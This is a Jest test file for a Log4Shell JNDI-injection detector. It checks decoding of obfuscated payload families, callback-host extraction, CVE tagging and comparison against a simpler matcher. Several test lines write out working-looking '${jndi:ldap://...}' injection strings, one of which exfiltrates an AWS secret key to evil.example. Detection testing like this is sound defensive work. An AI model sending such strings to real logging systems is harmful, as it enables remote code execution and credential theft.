import { analyzeLine } from '../src';
import { ATTACKS, BENIGN, RECURSIONS, TEMPLATES, TRACES } from './corpus';
import { gapMatcherFlags } from './support/gap-matcher';

describe('corpus: every obfuscation family is found with its decoded form and callback target', () => {
  it.each(ATTACKS.map((a) => [a.family, a.line, a] as const))('%s: %s', (_family, line, a) => {
    const hits = analyzeLine(line).filter((h) => h.kind === 'jndi');
    expect(hits).toHaveLength(1);
    const [hit] = hits;
    expect(hit.decoded).toBe(a.decoded);
    expect(hit.target).toEqual({
      protocol: a.protocol,
      host: a.host,
      ...(a.port !== undefined ? { port: a.port } : {}),
      path: a.path,
      callbackHost: a.callbackHost ?? a.host,
      ...(a.bypass ? { bypass: a.bypass } : {}),
    });
    expect(hit.exfiltrates.map((e) => ({ expression: e.expression, where: e.where }))).toEqual(
      a.exfiltrates ?? [],
    );
    expect(hit.obfuscation).toEqual(expect.arrayContaining(a.obfuscation ?? []));
    expect(hit.cves).toContain('CVE-2021-44228');
    if (a.bypass) expect(hit.cves).toContain('CVE-2021-45046');
  });

  it('covers every family the issue lists', () => {
    const families = new Set(ATTACKS.map((a) => a.family));
    for (const f of [
      'plain',
      'protocol',
      'case',
      'lower',
      'upper',
      'default',
      'long-gap',
      'date',
      'base64',
      'url',
      'unicode-escape',
      'hex-escape',
      'octal-escape',
      'html-escape',
      'lookalike',
      'sys-separator',
      'hash-host',
      'exfiltration',
      'nested',
      'non-ascii',
    ])
      expect(families).toContain(f);
    const protocols = new Set(ATTACKS.map((a) => a.protocol));
    for (const p of ['ldap', 'ldaps', 'rmi', 'dns', 'iiop', 'corba', 'nds', 'nis', 'http'])
      expect(protocols).toContain(p);
  });

  it('reports the exfiltrated lookup by prefix and name', () => {
    const [hit] = analyzeLine('${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.example/a}');
    expect(hit.exfiltrates).toEqual([
      {
        expression: '${env:AWS_SECRET_ACCESS_KEY}',
        lookup: 'env',
        name: 'AWS_SECRET_ACCESS_KEY',
        where: 'host',
      },
    ]);
    expect(hit.message).toContain('exfiltrating ${env:AWS_SECRET_ACCESS_KEY}');
  });

  it('reports each distinct lookup of a line once', () => {
    const hits = analyzeLine(
      'a=${jndi:ldap://one.example/a} b=${jndi:rmi://two.example/b} c=${jndi:ldap://one.example/a}',
    );
    expect(hits.map((h) => h.target?.host)).toEqual(['one.example', 'two.example']);
  });
});

describe('corpus: CVE-2021-45105 recursion strings and exploitation traces', () => {
  it.each(RECURSIONS)('recursion: %s', (line) => {
    const hits = analyzeLine(line);
    expect(hits.map((h) => h.kind)).toContain('recursion');
    expect(hits.find((h) => h.kind === 'recursion')?.cves).toEqual(['CVE-2021-45105']);
  });

  it.each(TRACES.map((t) => [t.trace, t.line, t] as const))('trace %s: %s', (_k, line, t) => {
    const hits = analyzeLine(line).filter((h) => h.kind === 'trace');
    expect(hits).toHaveLength(1);
    expect(hits[0].trace).toBe(t.trace);
    expect(hits[0].confidence).toBe(t.confidence);
    if (t.host) expect(hits[0].target?.host).toBe(t.host);
  });
});

describe('corpus: benign lines that look alike are not hits', () => {
  it.each(BENIGN)('benign: %s', (line) => {
    expect(analyzeLine(line)).toEqual([]);
  });
});

describe('against the best single tool the issue describes (gap of 40, URL and base64 decoding)', () => {
  const missed = ATTACKS.filter((a) => a.gapMatcherMisses);

  it('the model of that tool misses each family marked so, and the detector finds them', () => {
    expect(new Set(missed.map((a) => a.family))).toEqual(
      // base64 fragments: decoded apart from the line, `jndi` no longer sits between `${` and `:`.
      new Set([
        'base64',
        'long-gap',
        'unicode-escape',
        'hex-escape',
        'octal-escape',
        'html-escape',
        'lookalike',
        'nested',
      ]),
    );
    for (const a of missed) {
      expect({ line: a.line, gapMatcher: gapMatcherFlags(a.line) }).toEqual({
        line: a.line,
        gapMatcher: false,
      });
      expect(analyzeLine(a.line).some((h) => h.kind === 'jndi')).toBe(true);
    }
  });

  it('the model finds the families not marked (so the comparison is fair)', () => {
    for (const a of ATTACKS.filter((x) => !x.gapMatcherMisses && x.family !== 'lookalike'))
      expect({ line: a.line, gapMatcher: gapMatcherFlags(a.line) }).toEqual({
        line: a.line,
        gapMatcher: true,
      });
  });

  it.each(TEMPLATES)('that tool flags the harmless template, the detector does not: %s', (line) => {
    expect(gapMatcherFlags(line)).toBe(true);
    expect(analyzeLine(line)).toEqual([]);
  });
});
